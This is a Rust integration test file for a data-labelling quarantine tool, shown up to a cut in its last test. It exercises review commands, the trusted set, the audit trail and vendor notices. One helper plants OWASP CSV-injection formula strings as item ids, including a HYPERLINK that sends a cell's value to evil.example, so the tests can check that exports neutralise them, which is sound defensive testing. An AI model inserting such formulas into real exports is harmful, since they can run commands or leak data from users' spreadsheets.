//! The reviewers' side through the binary: quarantine review (list, show, release, reject, withdraw) with
//! the daemon running and stopped, concurrent decisions, the trusted set (provenance, rolling window,
//! re-scan), vendor notices against their shipped JSON Schema, CSV/Markdown escaping of vendor strings,
//! the offline HTML page, and the audit trail.
//!
//! Issue 4 "Done when": (1) `review_loop_while_the_daemon_runs`; (2)
//! `review_commands_work_with_the_daemon_stopped_and_refuse_a_second_decision`; (3)
//! `trusted_set_provenance_window_and_inbox_cannot_touch_it` and
//! `trusted_correction_rescan_flags_an_accepted_batch_and_withdraw_pulls_it`; (4) notices validated in
//! every test through `validate_notices`, plus `schema_validator_rejects_bad_notices` and the OWASP
//! cases in `src/notice.rs`; (5) `check_page` inside (1).

use std::collections::{HashMap, HashSet};
use std::path::Path;
use std::process::Output;
use std::time::{Duration, Instant};

use labelweir::notice::{
    self, BatchRef, DecidedBy, Notice, NoticeItem, NoticeReason, NoticeSettings, NoticeVerdict,
};
use labelweir::scenario;
use labelweir::store::BatchState;
use serde_json::Value;

use crate::util::*;

const T: Duration = Duration::from_secs(120);

fn lw(args: &[&str]) -> Output {
    run_bin(args)
}

pub(crate) fn ok_json(args: &[&str]) -> Value {
    let out = lw(args);
    assert!(
        out.status.success(),
        "labelweir {args:?} failed ({:?}): {}",
        out.status.code(),
        String::from_utf8_lossy(&out.stderr)
    );
    serde_json::from_slice(&out.stdout).unwrap_or_else(|e| {
        panic!(
            "labelweir {args:?}: not JSON ({e}): {}",
            String::from_utf8_lossy(&out.stdout)
        )
    })
}

fn stderr(o: &Output) -> String {
    String::from_utf8_lossy(&o.stderr).into_owned()
}

fn planted(b: &Batch) -> Vec<String> {
    b.ids
        .iter()
        .zip(&b.flipped)
        .filter(|(_, f)| **f)
        .map(|(i, _)| i.clone())
        .collect()
}

/// Rename every planted item to a spreadsheet-formula id (OWASP "CSV Injection" attack strings, from
/// memory), so the notices must neutralise and escape them.
fn with_formula_ids(mut b: Batch) -> Batch {
    let forms = [
        "=cmd|' /C calc'!A",
        "@SUM(1+9)*cmd|' /C calc'!A",
        "+cmd|' /C calc'!A",
        "-2+3+cmd|' /C calc'!A",
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")#",
    ];
    let mut k = 0;
    for (id, f) in b.ids.iter_mut().zip(&b.flipped) {
        if *f {
            *id = format!("{}{k}", forms[k % forms.len()]);
            k += 1;
        }
    }
    b
}

/// Deliver two clean batches and two poisoned ones; wait for all four verdicts. Returns the two poisoned
/// batches (region flips as CSV, uniform flips with formula ids as JSON Lines).
fn two_quarantined(ws: &Ws, vendor: &str) -> (Batch, Batch) {
    ws.deliver(vendor, "c1.csv", &clean_batch("c1", 400, 21).csv());
    ws.deliver(vendor, "c2.csv", &clean_batch("c2", 400, 22).csv());
    ws.wait_settled(2, T);
    let region = region_flipped_batch("r1", 300, 23, 0.15);
    let uniform = with_formula_ids(uniform_flipped_batch("u1", 300, 24, 0.15));
    ws.deliver(vendor, "region.csv", &region.csv());
    ws.deliver(vendor, "uniform.jsonl", &uniform.jsonl());
    ws.wait_settled(4, T);
    wait_filed(&ws.dir.display().to_string(), 4);
    (region, uniform)
}

/// Wait until the audit trail has `n` `filed` records (a file reaches its folder just before its batch
/// is recorded as settled).
fn wait_filed(dir: &str, n: usize) {
    let t = Instant::now();
    loop {
        let out = lw(&["audit", dir, "--json"]);
        let filed = String::from_utf8_lossy(&out.stdout)
            .lines()
            .filter(|l| l.contains("\"action\":\"filed\""))
            .count();
        if filed >= n {
            return;
        }
        assert!(t.elapsed() < T, "only {filed} of {n} batches filed");
        std::thread::sleep(Duration::from_millis(100));
    }
}

/// `quarantine list --json` as (original name → batch id).
fn queue(dir: &str) -> HashMap<String, String> {
    let v = ok_json(&["quarantine", "list", dir, "--json"]);
    v.as_array()
        .unwrap()
        .iter()
        .map(|e| {
            (
                e["original_name"].as_str().unwrap().to_string(),
                e["batch_id"].as_str().unwrap().to_string(),
            )
        })
        .collect()
}

pub(crate) fn metric(addr: std::net::SocketAddr, name: &str) -> Option<f64> {
    let (_, body) = http_get(addr, "/metrics").ok()?;
    body.lines()
        .find(|l| l.starts_with(name) && l[name.len()..].starts_with(' '))
        .and_then(|l| l.split_whitespace().nth(1))
        .and_then(|v| v.parse().ok())
}

#[test]
fn review_loop_while_the_daemon_runs() {
    let ws = Ws::whole_batches(&["north-sort"]);
    let dir = ws.dir.display().to_string();
    let d = Daemon::start(&ws);
    let (region, _uniform) = two_quarantined(&ws, "north-sort");
    assert!(
        ws.path("admin.sock").exists(),
        "the daemon serves the admin socket"
    );
    {
        use std::os::unix::fs::PermissionsExt;
        let mode = std::fs::metadata(ws.path("admin.sock"))
            .unwrap()
            .permissions()
            .mode();
        assert_eq!(
            mode & 0o777,
            0o660,
            "socket permissions decide who may use it"
        );
    }

    // list: both poisoned batches wait for review.
    let q = queue(&dir);
    assert_eq!(
        q.len(),
        2,
        "{q:?}; accepted {:?}; rejected {:?}; audit {}",
        ws.files_in("accepted"),
        ws.files_in("rejected"),
        String::from_utf8_lossy(&lw(&["audit", &dir]).stdout)
    );
    let rid = q["region.csv"].clone();
    let uid = q["uniform.jsonl"].clone();

    // show: explains the hold; the moved items are the planted ones; the page shows the projection.
    let page = ws.tmp.path().join("review.html");
    let page_s = page.display().to_string();
    let show = ok_json(&[
        "quarantine",
        "show",
        &dir,
        &rid,
        "--json",
        "--html",
        &page_s,
    ]);
    assert_eq!(show["batch"]["state"], "quarantined");
    assert!(!show["reasons"].as_array().unwrap().is_empty());
    assert!(show["batch"]["scores"]["repair_cost"].as_f64().unwrap() > 0.0);
    assert!(show["baseline"]["n_history"].as_u64().is_some());
    let moved: Vec<String> = show["moved_items"]
        .as_array()
        .unwrap()
        .iter()
        .map(|m| m["id"].as_str().unwrap().to_string())
        .collect();
    let planted_r = planted(&region);
    // A flag is a suspicion, not proof. What a reviewer reads first is the top of the list (moved
    // items come most suspicious first): among the first k = (number of planted flips) at least 70 %
    // must be planted (precision at k, common practice for ranked review lists), and at least half of
    // all planted flips must be among the moved items (recall).
    let k = planted_r.len().min(moved.len());
    let top_hits = moved[..k].iter().filter(|m| planted_r.contains(m)).count();
    assert!(
        top_hits * 10 >= k * 7,
        "{top_hits} of the top {k} moved items are planted (of {} moved)",
        moved.len()
    );
    let hits = moved.iter().filter(|m| planted_r.contains(m)).count();
    assert!(
        hits * 10 >= planted_r.len() * 5,
        "{hits} of {} planted flips moved",
        planted_r.len()
    );
    let history: Vec<&str> = show["history"]
        .as_array()
        .unwrap()
        .iter()
        .map(|a| a["action"].as_str().unwrap())
        .collect();
    assert!(
        history.contains(&"verdict") && history.contains(&"filed"),
        "{history:?}"
    );
    check_page(
        &page,
        region.ids.len(),
        10 * scenario::Plant::N_CLASSES,
        &moved,
    );
    // The human-readable form names the reasons and the page.
    let out = lw(&["quarantine", "show", &dir, &rid, "--html", &page_s]);
    assert!(out.status.success());
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(
        text.contains("why it was held") && text.contains("not proof"),
        "{text}"
    );

    // Two reviewers release the region batch at the same moment: exactly one succeeds.
    let top = moved[0].clone();
    let spawn_release = |by: &str| {
        std::process::Command::new(bin())
            .args([
                "quarantine",
                "release",
                &dir,
                &rid,
                "--by",
                by,
                "--reason",
                "checked 20 items on the line camera; proposed labels are right",
                "--accept-proposed",
                "--exclude",
                &top,
                "--json",
            ])
            .output()
    };
    let (a, b) = std::thread::scope(|s| {
        let a = s.spawn(|| spawn_release("alice").unwrap());
        let b = s.spawn(|| spawn_release("alex").unwrap());
        (a.join().unwrap(), b.join().unwrap())
    });
    let (won, lost) = match (a.status.success(), b.status.success()) {
        (true, false) => (a, b),
        (false, true) => (b, a),
        other => panic!(
            "exactly one release must succeed: {other:?}\n{}\n{}",
            stderr(&a),
            stderr(&b)
        ),
    };
    assert_eq!(lost.status.code(), Some(2), "{}", stderr(&lost));
    assert!(stderr(&lost).contains("refused"), "{}", stderr(&lost));
    let rel: Value = serde_json::from_slice(&won.stdout).unwrap();
    let winner = rel["by"].as_str().unwrap().to_string();
    assert_eq!(rel["state"], "released");
    assert_eq!(rel["items_into_pool"], 299);
    assert_eq!(rel["excluded"], serde_json::json!([top]));
    assert!(!rel["relabeled"].as_array().unwrap().is_empty());
    // The running daemon's pool follows the release (its scoring worker was told).
    let t = Instant::now();
    while metric(d.addr, "labelweir_pool_items") != Some(1099.0) {
        assert!(
            t.elapsed() < Duration::from_secs(20),
            "pool gauge {:?}",
            metric(d.addr, "labelweir_pool_items")
        );
        std::thread::sleep(Duration::from_millis(100));
    }

    // Reject the uniform batch, naming the flagged items (no scores, no proposed labels).
    let rej = ok_json(&[
        "quarantine",
        "reject",
        &dir,
        &uid,
        "--by",
        "bob",
        "--reason",
        "labels look randomly shuffled; vendor to re-label",
        "--disclose-items",
        "--json",
    ]);
    assert_eq!(rej["state"], "review_rejected");
    // A third decision on it is refused, too.
    let again = lw(&[
        "quarantine",
        "release",
        &dir,
        &uid,
        "--by",
        "carol",
        "--reason",
        "second look",
    ]);
    assert_eq!(again.status.code(), Some(2));
    assert!(stderr(&again).contains("refused"));
    assert!(queue(&dir).is_empty(), "nothing waits any more");

    // Audit trail through the daemon.
    let audit = lw(&["audit", &dir, "--json"]);
    assert!(audit.status.success());
    let lines: Vec<Value> = String::from_utf8_lossy(&audit.stdout)
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    let find = |action: &str, batch: &str| {
        lines
            .iter()
            .filter(|a| a["action"] == action && a["batch_id"] == batch)
            .collect::<Vec<_>>()
    };
    let r = find("release", &rid);
    assert_eq!(r.len(), 1, "exactly one release recorded");
    assert_eq!(r[0]["actor"], winner);
    assert_eq!(
        r[0]["reason"],
        "checked 20 items on the line camera; proposed labels are right"
    );
    assert_eq!(r[0]["detail"]["via"], "admin_socket");
    assert!(r[0]["detail"]["os_uid"].as_u64().is_some());
    let j = find("reject", &uid);
    assert_eq!(j.len(), 1);
    assert_eq!(j[0]["actor"], "bob");
    assert_eq!(
        j[0]["reason"],
        "labels look randomly shuffled; vendor to re-label"
    );
    for b in [&rid, &uid] {
        assert_eq!(find("verdict", b).len(), 1, "one verdict for {b}");
        assert_eq!(
            find("notice", b).len(),
            1,
            "the review notice for {b} is recorded"
        );
    }
    // Filters: a vendor the workspace does not know is an error (issue 15), a --since in the future gives
    // nothing.
    let v = lw(&["audit", &dir, "--vendor", "nobody", "--json"]);
    assert_eq!(v.status.code(), Some(2));
    assert!(v.stdout.is_empty());
    let v = lw(&["audit", &dir, "--since", "2999-01-01", "--json"]);
    assert!(v.status.success() && v.stdout.is_empty());
    // `--output` replaces the file atomically (temporary file, rename): a second link to the old file
    // keeps the old bytes, where writing in place would have changed both names.
    let other = ws.tmp.path().join("kept-audit.jsonl");
    let named = ws.tmp.path().join("audit.jsonl");
    std::fs::write(&other, b"old\n").unwrap();
    std::fs::hard_link(&other, &named).unwrap();
    let out = lw(&[
        "audit",
        &dir,
        "--json",
        "--output",
        &named.display().to_string(),
    ]);
    assert!(out.status.success(), "{}", stderr(&out));
    assert_eq!(std::fs::read(&named).unwrap(), audit.stdout);
    assert_eq!(std::fs::read(&other).unwrap(), b"old\n");

    assert!(d.stop().success());
    assert!(
        !ws.path("admin.sock").exists(),
        "socket removed at shutdown"
    );

    // The pool and the folders reflect both decisions.
    let store = ws.store();
    assert_eq!(
        store.batch(&rid).unwrap().unwrap().state,
        BatchState::Released
    );
    assert_eq!(
        store.batch(&uid).unwrap().unwrap().state,
        BatchState::ReviewRejected
    );
    assert_eq!(store.pool_items().unwrap(), 800 + 299);
    let in_pool = store.pool_batches().unwrap();
    assert_eq!(in_pool.iter().filter(|b| **b == rid).count(), 1);
    assert!(!in_pool.contains(&uid));
    let entry = store
        .pool_entries_after(0)
        .unwrap()
        .into_iter()
        .find(|(_, e)| e.batch_id == rid)
        .unwrap()
        .1;
    assert!(!entry.ids.contains(&top), "the excluded item stayed out");
    assert!(
        ws.files_in("quarantine").is_empty(),
        "{:?}",
        ws.files_in("quarantine")
    );
    assert!(ws.files_in("accepted").iter().any(|f| f.starts_with(&rid)));
    assert!(ws.files_in("rejected").iter().any(|f| f.starts_with(&uid)));
    drop(store);

    // Notices: one per decision, valid against the shipped schema; what they disclose.
    let nd = ws.path("notices").join("north-sort");
    validate_notices(&nd);
    let released: Value =
        serde_json::from_slice(&std::fs::read(notice_file(&nd, &rid, "released.json")).unwrap())
            .unwrap();
    assert_eq!(released["decided_by"], "reviewer");
    assert!(released["items"]
        .as_array()
        .unwrap()
        .iter()
        .any(|i| i["id"] == top.as_str() && i["reasons"][0] == "excluded_by_reviewer"));
    assert!(
        !released.to_string().contains("alice") && !released.to_string().contains("alex"),
        "reviewers' names stay in the audit trail"
    );
    let rejected: Value =
        serde_json::from_slice(&std::fs::read(notice_file(&nd, &uid, "rejected.json")).unwrap())
            .unwrap();
    assert_eq!(rejected["verdict"], "rejected");
    let items = rejected["items"].as_array().unwrap();
    assert!(!items.is_empty());
    assert!(
        items
            .iter()
            .all(|i| i.get("proposed_label").is_none() && i.get("suspicion").is_none()),
        "--disclose-items: ids and reason codes only"
    );
    assert!(
        !rejected.to_string().contains("randomly shuffled"),
        "the reviewer's reason is internal"
    );
    // The formula ids are neutralised in the CSV and escaped in the Markdown (OWASP "CSV Injection").
    let csv = std::fs::read_to_string(notice_file(&nd, &uid, "rejected.items.csv")).unwrap();
    let mut cells = 0;
    for rec in csv::Reader::from_reader(csv.as_bytes()).records() {
        let rec = rec.unwrap();
        let id = &rec[1];
        assert!(
            !id.trim_start().starts_with(['=', '+', '-', '@']),
            "unneutralised cell {id:?}"
        );
        if id.starts_with('\'') {
            cells += 1;
        }
    }
    assert!(cells > 0, "formula ids appear, neutralised:\n{csv}");
    assert!(
        csv.lines().skip(1).all(|l| l.starts_with('"')),
        "every cell quoted"
    );
    let md = std::fs::read_to_string(notice_file(&nd, &uid, "rejected.md")).unwrap();
    // A code span, literal in Markdown; the pipe escaped so the table cell stays whole (GFM "Tables").
    assert!(
        md.contains("`=cmd\\|' /C calc'!A"),
        "a code span in Markdown:\n{md}"
    );
    assert!(md.contains("A flag is a suspicion for review, not proof"));
}

#[test]
fn review_commands_work_with_the_daemon_stopped_and_refuse_a_second_decision() {
    let ws = Ws::whole_batches(&["glassline"]);
    let dir = ws.dir.display().to_string();
    let d = Daemon::start(&ws);
    let (region, uniform) = two_quarantined(&ws, "glassline");
    // An item the reviewer checks by hand and confirms: promoted into the trusted set on release.
    let planted_r = planted(&region);
    let confirmed = region
        .ids
        .iter()
        .find(|i| !planted_r.contains(i))
        .unwrap()
        .clone();
    assert!(d.stop().success());
    assert!(!ws.path("admin.sock").exists());

    let q = queue(&dir);
    assert_eq!(q.len(), 2);
    let rid = q["region.csv"].clone();
    let uid = q["uniform.jsonl"].clone();
    let text = lw(&["quarantine", "list", &dir]);
    assert!(String::from_utf8_lossy(&text.stdout).contains(&rid));
    let show = ok_json(&["quarantine", "show", &dir, &uid, "--json", "--no-html"]);
    assert_eq!(show["batch"]["id"], uid.as_str());
    let moved = show["moved_items"].as_array().unwrap().len();
    assert!(moved > 0);
    let _ = uniform;

    // Reject with the proposed labels disclosed (the reviewer's choice). The notice cannot be written at
    // first (a folder squats on its file name, as a crash between decision and notice would leave it
    // unwritten): the decision stands, the notice waits in the store, and the next review command writes it.
    let notice_path = notice_file(&ws.path("notices").join("glassline"), &uid, "rejected.json");
    std::fs::create_dir(&notice_path).unwrap();
    let rej = ok_json(&[
        "quarantine",
        "reject",
        &dir,
        &uid,
        "--by",
        "dana",
        "--reason",
        "random flips",
        "--disclose-proposed",
        "--json",
    ]);
    assert_eq!(rej["state"], "review_rejected");
    assert!(
        rej["warnings"]
            .as_array()
            .unwrap()
            .iter()
            .any(|w| w.as_str().unwrap().contains("vendor notice")),
        "{rej}"
    );
    let notices_of = |id: &str| {
        String::from_utf8_lossy(&lw(&["audit", &dir, "--json"]).stdout)
            .lines()
            .filter(|l| l.contains("\"action\":\"notice\"") && l.contains(id))
            .count()
    };
    assert_eq!(notices_of(&uid), 0);
    std::fs::remove_dir(&notice_path).unwrap();
    assert!(lw(&["quarantine", "list", &dir]).status.success());
    assert!(notice_path.is_file(), "the pending notice is written");
    assert_eq!(notices_of(&uid), 1, "and recorded once in the audit trail");
    assert!(lw(&["quarantine", "list", &dir]).status.success());
    assert_eq!(notices_of(&uid), 1, "and not sent again");
    let n: Value = serde_json::from_slice(
        &std::fs::read(notice_file(
            &ws.path("notices").join("glassline"),
            &uid,
            "rejected.json",
        ))
        .unwrap(),
    )
    .unwrap();
    assert_eq!(n["disclosure"]["by_reviewer"], true);
    assert!(n["items"]
        .as_array()
        .unwrap()
        .iter()
        .all(|i| i["proposed_label"].is_string()));
    assert!(
        n["items"]
            .as_array()
            .unwrap()
            .iter()
            .all(|i| i.get("suspicion").is_none()),
        "scores stay undisclosed"
    );

    // Two reviewers release the other batch at once with the daemon stopped: one wins, the other is
    // refused (it waits for the store, then finds the batch already released).
    let (a, b) = std::thread::scope(|s| {
        let go = |by: &'static str| {
            let dir = dir.clone();
            let rid = rid.clone();
            let confirmed = confirmed.clone();
            s.spawn(move || {
                std::process::Command::new(bin())
                    .args([
                        "quarantine",
                        "release",
                        &dir,
                        &rid,
                        "--by",
                        by,
                        "--reason",
                        "ok after review",
                        "--promote",
                        &confirmed,
                    ])
                    .output()
                    .unwrap()
            })
        };
        let a = go("erin");
        let b = go("finn");
        (a.join().unwrap(), b.join().unwrap())
    });
    assert!(
        a.status.success() ^ b.status.success(),
        "exactly one release: {:?} {:?}\n{}\n{}",
        a.status,
        b.status,
        stderr(&a),
        stderr(&b)
    );
    let lost = if a.status.success() { &b } else { &a };
    assert_eq!(lost.status.code(), Some(2), "{}", stderr(lost));
    assert!(stderr(lost).contains("refused"), "{}", stderr(lost));

    // Withdraw it again (the same command works on released batches) and check the pool. Its notice
    // cannot be written yet (a folder squats on the name); the daemon's next start sends it.
    let withdrawn_notice = notice_file(
        &ws.path("notices").join("glassline"),
        &rid,
        "withdrawn.json",
    );
    std::fs::create_dir(&withdrawn_notice).unwrap();
    let w = ok_json(&[
        "quarantine",
        "withdraw",
        &dir,
        &rid,
        "--by",
        "erin",
        "--reason",
        "second thoughts",
        "--json",
    ]);
    assert_eq!(w["state"], "withdrawn");
    std::fs::remove_dir(&withdrawn_notice).unwrap();
    let store = ws.store();
    assert_eq!(store.pool_items().unwrap(), 800);
    assert!(!store.pool_batches().unwrap().contains(&rid));
    let audit = store.audit_since(0).unwrap();
    let rel: Vec<_> = audit.iter().filter(|a| a.action == "release").collect();
    assert_eq!(rel.len(), 1, "no double release");
    assert_eq!(rel[0].detail["via"], "direct");
    // The confirmed item is trusted now, with its provenance: who, and the review it came from.
    let t = store
        .trusted_items()
        .unwrap()
        .into_iter()
        .find(|t| t.id == confirmed)
        .expect("promoted");
    assert_eq!(t.added_by, rel[0].actor);
    assert!(t.source.contains(&rid), "{}", t.source);
    assert!(audit
        .iter()
        .any(|a| a.action == "trusted_promote" && a.batch_id.as_deref() == Some(rid.as_str())));
    assert!(audit.iter().any(|a| a.action == "withdraw"
        && a.actor == "erin"
        && a.reason.as_deref() == Some("second thoughts")));
    drop(store);
    assert!(ws.files_in("rejected").iter().any(|f| f.starts_with(&rid)));
    validate_notices(&ws.path("notices").join("glassline"));

    // A missing reason is refused before anything happens.
    let out = lw(&["quarantine", "reject", &dir, &rid, "--reason", "  "]);
    assert_eq!(out.status.code(), Some(2));
    // An unknown batch is an input error.
    let out = lw(&["quarantine", "show", &dir, "b99999999", "--no-html"]);
    assert_eq!(out.status.code(), Some(2));

    // The daemon starts again on the edited store, and its pool matches.
    assert!(
        !withdrawn_notice.exists(),
        "still pending before the daemon starts"
    );
    let d = Daemon::start(&ws);
    let t = Instant::now();
    while metric(d.addr, "labelweir_pool_items") != Some(800.0) {
        assert!(
            t.elapsed() < Duration::from_secs(20),
            "{:?}",
            metric(d.addr, "labelweir_pool_items")
        );
        std::thread::sleep(Duration::from_millis(100));
    }
    assert!(d.stop().success());
    assert!(
        withdrawn_notice.is_file(),
        "the daemon's start sent the pending notice"
    );
    let sent = ws
        .store()
        .audit_since(0)
        .unwrap()
        .into_iter()
        .filter(|a| {
            a.action == "notice"
                && a.batch_id.as_deref() == Some(rid.as_str())
                && a.outcome.as_deref() == Some("withdrawn")
        })
        .count();
    assert_eq!(sent, 1);
}

fn trusted_file(ws: &Ws, name: &str, prefix: &str, per_class: usize, seed: u64) -> String {
    let (x, y) = plant().sample_per_class(per_class, seed);
    let b = Batch {
        ids: scenario::item_ids(prefix, y.len()),
        flipped: vec![false; y.len()],
        labels: y,
        x,
    };
    let p = ws.tmp.path().join(name);
    std::fs::write(&p, b.csv()).unwrap();
    p.display().to_string()
}

#[test]
fn trusted_set_provenance_window_and_inbox_cannot_touch_it() {
    let ws = Ws::with(
        &["north-sort"],
        &[("max_items_per_class = 0", "max_items_per_class = 12")],
    );
    let dir = ws.dir.display().to_string();
    let before = ok_json(&["trusted", "list", &dir, "--json"]);
    assert_eq!(before["items"].as_array().unwrap().len(), 80);
    assert!(before["items"]
        .as_array()
        .unwrap()
        .iter()
        .all(|t| t["added_by"] == "expert-a"));

    // A vendor delivers items with the trusted items' ids and other labels, and a file named like the
    // trusted set: nothing in the inbox reaches the trusted set.
    let d = Daemon::start(&ws);
    let mut b = clean_batch("x", 80, 5);
    b.ids = scenario::item_ids("trusted", 80);
    b.labels = b
        .labels
        .iter()
        .map(|k| (k + 1) % scenario::Plant::N_CLASSES)
        .collect();
    ws.deliver("north-sort", "trusted.csv", &b.csv());
    ws.wait_settled(1, T);

    // Add 5 verified items per class through the running daemon: the window (12 per class) retires the
    // 3 oldest of each class; provenance is kept per item.
    let f = trusted_file(&ws, "lab.csv", "lab", 5, 4242);
    let out = ok_json(&[
        "trusted",
        "add",
        &dir,
        &f,
        "--by",
        "carol",
        "--source",
        "lab re-inspection, line 3",
        "--json",
    ]);
    assert_eq!(out["added"].as_array().unwrap().len(), 40);
    assert_eq!(out["expired"].as_array().unwrap().len(), 24);
    assert!(out["rescan"]["checked"].is_array());
    let after = ok_json(&["trusted", "list", &dir, "--json"]);
    let items = after["items"].as_array().unwrap();
    assert_eq!(items.len(), 96);
    let per_class = after["balance"]["per_class"].as_array().unwrap();
    assert!(per_class.iter().all(|p| p[1] == 12), "{per_class:?}");
    let lab: Vec<_> = items
        .iter()
        .filter(|t| t["id"].as_str().unwrap().starts_with("lab-"))
        .collect();
    assert_eq!(lab.len(), 40);
    assert!(lab
        .iter()
        .all(|t| t["added_by"] == "carol" && t["source"] == "lab re-inspection, line 3"));
    // Adding an existing id again is refused without --replace.
    let again = lw(&[
        "trusted", "add", &dir, &f, "--by", "carol", "--source", "again",
    ]);
    assert_eq!(again.status.code(), Some(2), "{}", stderr(&again));
    assert!(stderr(&again).contains("--replace"));

    // Remove items until a class is thin: a warning names it; emptying a class is refused.
    let glass: Vec<String> = items
        .iter()
        .filter(|t| t["label"] == "glass")
        .map(|t| t["id"].as_str().unwrap().to_string())
        .collect();
    let mut args = vec!["trusted", "remove", dir.as_str()];
    args.extend(glass[..9].iter().map(|s| s.as_str()));
    args.extend(["--by", "carol", "--reason", "chipped samples", "--json"]);
    let rm = ok_json(&args);
    let warnings = rm["balance"]["warnings"].as_array().unwrap();
    assert!(
        warnings
            .iter()
            .any(|w| w.as_str().unwrap().contains("glass")),
        "{warnings:?}"
    );
    let mut args = vec!["trusted", "remove", dir.as_str()];
    args.extend(glass[9..].iter().map(|s| s.as_str()));
    args.extend(["--by", "carol", "--reason", "all of them"]);
    let out = lw(&args);
    assert_eq!(out.status.code(), Some(2));
    assert!(
        stderr(&out).contains("without trusted items"),
        "{}",
        stderr(&out)
    );

    // Export: CSV that `trusted add` reads back, JSON Lines with provenance. The export replaces the file
    // atomically: a second link to the old file keeps the old bytes.
    let exported = ws.tmp.path().join("export.csv");
    let other = ws.tmp.path().join("kept-export.csv");
    std::fs::write(&other, b"old\n").unwrap();
    std::fs::hard_link(&other, &exported).unwrap();
    let out = lw(&[
        "trusted",
        "export",
        &dir,
        "--output",
        &exported.display().to_string(),
    ]);
    assert!(out.status.success(), "{}", stderr(&out));
    let table = labelweir::data::read_table(&exported, &Default::default(), None).unwrap();
    assert_eq!(table.len(), 87);
    assert_eq!(std::fs::read(&other).unwrap(), b"old\n");
    let jl = lw(&["trusted", "export", &dir, "--format", "jsonl"]);
    let first: Value =
        serde_json::from_str(String::from_utf8_lossy(&jl.stdout).lines().next().unwrap()).unwrap();
    assert!(
        first["added_by"].is_string()
            && first["source"].is_string()
            && first["added_at"].is_string()
    );
    assert!(d.stop().success());

    // The inbox batch changed nothing in the trusted set: the original ids kept their labels and
    // provenance.
    let store = ws.store();
    let trusted: HashMap<String, labelweir::store::TrustedItem> = store
        .trusted_items()
        .unwrap()
        .into_iter()
        .map(|t| (t.id.clone(), t))
        .collect();
    let original: HashMap<String, Value> = before["items"]
        .as_array()
        .unwrap()
        .iter()
        .map(|t| (t["id"].as_str().unwrap().to_string(), t.clone()))
        .collect();
    for (id, t) in &trusted {
        if let Some(o) = original.get(id) {
            assert_eq!(
                t.label,
                o["label"].as_str().unwrap(),
                "{id} label unchanged"
            );
            assert_eq!(t.added_by, "expert-a");
        }
    }
    let audit = store.audit_since(0).unwrap();
    assert!(audit
        .iter()
        .any(|a| a.action == "trusted_add" && a.actor == "carol"));
    assert!(audit.iter().any(|a| a.action == "trusted_expire"));
    assert!(audit
        .iter()
        .any(|a| a.action == "trusted_remove" && a.reason.as_deref() == Some("chipped samples")));
    assert!(
        !audit
            .iter()
            .any(|a| a.action.starts_with("trusted") && a.actor == "daemon"),
        "the daemon never changes the trusted set"
    );
}

/// Labels of a systematic error: every `from` item whose first feature is above the class's 10th
/// percentile is labeled `to` instead (a region of feature space, as in Zhang, Zhu & Wright's
/// systematic-bias setting).
fn systematic(
    x: &ndarray::Array2<f64>,
    y: &[usize],
    from: usize,
    to: usize,
) -> (Vec<usize>, Vec<bool>) {
    let mut vals: Vec<f64> = (0..y.len())
        .filter(|&i| y[i] == from)
        .map(|i| x[[i, 0]])
        .collect();
    vals.sort_by(f64::total_cmp);
    let cut = vals.get(vals.len() / 10).copied().unwrap_or(0.0);
    let mut labels = y.to_vec();
    let mut mask = vec![false; y.len()];
    for i in 0..y.len() {
        if y[i] == from && x[[i, 0]] > cut {
            labels[i] = to;
            mask[i] = true;
        }
    }
    (labels, mask)
}

/// The plant's classes that the lab's first trusted set and a vendor confuse: most PET labelled PP, most
/// glass labelled steel, most paper labelled cardboard.
const CONFUSED: [(usize, usize); 3] = [(5, 6), (2, 7), (4, 1)];

/// The lab's first trusted set, sharing the vendor's systematic error, and the corrected one, written into
/// `dir` as `trusted-v1.csv` and `trusted-v2.csv`; returns their paths.
fn mistaken_trusted_files(dir: &Path) -> (String, String) {
    let (tx, ty) = plant().sample_per_class(20, 777);
    let ids = scenario::item_ids("lab", ty.len());
    let wrong = CONFUSED
        .iter()
        .fold(ty.clone(), |l, &(from, to)| systematic(&tx, &l, from, to).0);
    let write = |name: &str, labels: &[usize]| {
        let b = Batch {
            ids: ids.clone(),
            labels: labels.to_vec(),
            x: tx.clone(),
            flipped: vec![false; labels.len()],
        };
        let p = dir.join(name);
        std::fs::write(&p, b.csv()).unwrap();
        p.display().to_string()
    };
    (
        write("trusted-v1.csv", &wrong),
        write("trusted-v2.csv", &ty),
    )
}

/// The vendor's 400-item batch with the same three systematic errors (`flipped` marks them).
fn biased_batch() -> Batch {
    let (x, y) = plant().sample_per_class(50, 32);
    let mut labels = y;
    let mut mask = vec![false; labels.len()];
    for &(from, to) in &CONFUSED {
        let (l, m) = systematic(&x, &labels, from, to);
        labels = l;
        for (a, b) in mask.iter_mut().zip(m) {
            *a |= b;
        }
    }
    Batch {
        ids: scenario::item_ids("s1", 400),
        labels,
        x,
        flipped: mask,
    }
}

#[test]
fn trusted_correction_rescan_flags_an_accepted_batch_and_withdraw_pulls_it() {
    // The lab's first trusted set shares a vendor's systematic error (most PET items labeled PP, most
    // glass labeled steel, most paper labeled cardboard), so a batch with that error looks clean and is
    // accepted. The lab then corrects its trusted items (`trusted add --replace`); the re-scan reports
    // the accepted batch, and a reviewer withdraws it.
    let tmp = tempfile::tempdir().unwrap();
    let dir = tmp.path().join("ws");
    let (first, fixed) = mistaken_trusted_files(tmp.path());
    let dir_s = dir.display().to_string();
    let out = lw(&[
        "init",
        &dir_s,
        "--trusted",
        &first,
        "--vendor",
        "north-sort",
        "--by",
        "lab",
    ]);
    assert!(out.status.success(), "{}", stderr(&out));
    let ws = Ws { tmp, dir };
    ws.edit_config(&[
        ("quiet_period_ms = 2000", "quiet_period_ms = 150"),
        ("rescan_interval_secs = 60", "rescan_interval_secs = 1"),
        ("min_free_bytes = 67108864", "min_free_bytes = 1"),
    ]);
    let d = Daemon::start(&ws);
    // The vendor's batch has the same three systematic errors; it is the vendor's first batch, so it is
    // judged against the trusted set alone.
    let sys = biased_batch();
    assert!(sys.flipped.iter().filter(|m| **m).count() >= 120);
    ws.deliver("north-sort", "s1.csv", &sys.csv());
    ws.wait_settled(1, T);
    wait_filed(&dir_s, 1);
    // Find the systematic batch's id among the accepted ones.
    let accepted = ws.files_in("accepted");
    let sid = accepted
        .iter()
        .map(|f| f.split('.').next().unwrap().to_string())
        .find(|id| {
            let show = ok_json(&["quarantine", "show", &dir_s, id, "--json", "--no-html"]);
            show["batch"]["original_name"] == "s1.csv"
        });
    let Some(sid) = sid else {
        panic!(
            "the batch sharing the trusted set's error should be accepted; accepted {accepted:?}, quarantine {:?}",
            ws.files_in("quarantine")
        );
    };
    // Correct the trusted set: the re-scan now reports the batch.
